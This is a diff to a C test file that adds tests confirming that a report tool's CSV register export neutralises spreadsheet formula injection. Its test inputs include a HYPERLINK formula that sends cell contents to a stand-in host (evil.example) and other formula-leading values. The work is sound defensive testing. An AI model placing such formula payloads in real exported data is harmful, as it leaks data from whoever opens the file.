@@ -9,6 +9,8 @@
 
 #include "support/harness.h"
 
+#include "report/report_table.h"
+
 #define T_REPLY "2026-11-24T09:10"
 
 /* ---- header injection ------------------------------------------------------------------ */
@@ -162,6 +164,85 @@ static void test_hostile_message_id(gconstpointer data)
 	g_assert_null(strstr(body, "evil"));
 }
 
+/* ---- CSV registers ----------------------------------------------------------------------- */
+
+/* A field as a spreadsheet reads it: unquoted, '""' made '"'. */
+static GPtrArray *csv_fields(const char *csv)
+{
+	GPtrArray *out = g_ptr_array_new_with_free_func(g_free);
+	GString *f = g_string_new(NULL);
+	gboolean quoted = FALSE;
+	for (const char *p = csv; *p; p++) {
+		if (quoted) {
+			if (*p == '"' && p[1] == '"')
+				g_string_append_c(f, '"'), p++;
+			else if (*p == '"')
+				quoted = FALSE;
+			else
+				g_string_append_c(f, *p);
+		} else if (*p == '"') {
+			quoted = TRUE;
+		} else if (*p == ',' || *p == '\n') {
+			g_ptr_array_add(out, g_strdup(f->str));
+			g_string_truncate(f, 0);
+		} else if (*p != '\r') {
+			g_string_append_c(f, *p);
+		}
+	}
+	g_ptr_array_add(out, g_string_free(f, FALSE));
+	return out;
+}
+
+static void test_register_csv_runs_no_formula(void)
+{
+	g_autoptr(Harness) h = h_new(NULL);
+	h_story_setup(h);
+	h_reply_to(h, "chair", "distribution_list", H_CHAIR, H_CHAIR,
+	           "AUTHORISED\nESCALATE 1 no_report: +1 more\nESCALATE 2 no_apologies: @SUM(A1)\n");
+	g_assert_cmpint(h_run(h, T_REPLY, "poll", NULL), ==, 0);
+	g_assert_cmpint(h_run(h, T_REPLY, "flush", NULL), ==, 0);
+	h_reply_to(h, "slo", "escalation", H_POLICE_SLO, H_POLICE_SLO,
+	           "RESOLVED: =HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
+	g_assert_cmpint(h_run(h, "2026-11-25T10:00", "poll", NULL), ==, 0);
+	g_assert_cmpint(h_run(h, "2026-11-25T10:00", "report", "--from", "2026-11-01", "--to",
+	                      "2026-12-31", "--kind", "register", "--format", "csv", NULL), ==, 0);
+	g_autoptr(GPtrArray) fields = csv_fields(h->out);
+	gboolean outcome = FALSE, plus = FALSE, at = FALSE;
+	for (guint i = 0; i < fields->len; i++) {
+		const char *f = fields->pdata[i];
+		/* No field a spreadsheet would run. */
+		if (*f && strchr("=+@\t\r", *f))
+			g_error("a field that runs as a formula: %s", f);
+		if (*f == '-')
+			g_assert_true(g_regex_match_simple("^-[0-9]+(\\.[0-9]+)?$", f, 0, 0) ||
+			              !strcmp(f, "-"));
+		outcome |= !strcmp(f, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
+		plus |= !strcmp(f, "'+1 more");
+		at |= !strcmp(f, "'@SUM(A1)");
+	}
+	g_assert_true(outcome && plus && at);
+	/* The text view shows the words as they were written. */
+	g_assert_cmpint(h_run(h, "2026-11-25T10:00", "report", "--from", "2026-11-01", "--to",
+	                      "2026-12-31", "--kind", "register", NULL), ==, 0);
+	g_assert_nonnull(strstr(h->out, "+1 more"));
+	g_assert_null(strstr(h->out, "'+1 more"));
+}
+
+/* What is and is not neutralised: text from anyone is; numbers chaser computed are not. */
+static void test_csv_neutral_rules(void)
+{
+	static const char *const rows[][2] = {
+		{ "=1+1", "'=1+1" }, { "+1 more", "'+1 more" }, { "@SUM(A1)", "'@SUM(A1)" },
+		{ "-3+A1", "'-3+A1" }, { "\t=1", "'\t=1" }, { "\r=1", "'\r=1" },
+		{ "-", "-" }, { "-3", "-3" }, { "-2.5", "-2.5" }, { "12", "12" },
+		{ "Northshire Police", "Northshire Police" }, { "", "" },
+	};
+	for (guint i = 0; i < G_N_ELEMENTS(rows); i++) {
+		g_autofree char *got = ch_table_csv_neutral(rows[i][0]);
+		g_assert_cmpstr(got, ==, rows[i][1]);
+	}
+}
+
 /* ---- main -------------------------------------------------------------------------------- */
 
 int main(int argc, char **argv)
@@ -172,5 +253,7 @@ int main(int argc, char **argv)
 		g_autofree char *name = g_strdup_printf("/hostile/headers/%s", id_rows[i].name);
 		g_test_add_data_func(name, &id_rows[i], test_hostile_message_id);
 	}
+	g_test_add_func("/hostile/csv/register-runs-no-formula", test_register_csv_runs_no_formula);
+	g_test_add_func("/hostile/csv/neutral-rules", test_csv_neutral_rules);
 	return g_test_run();
 }
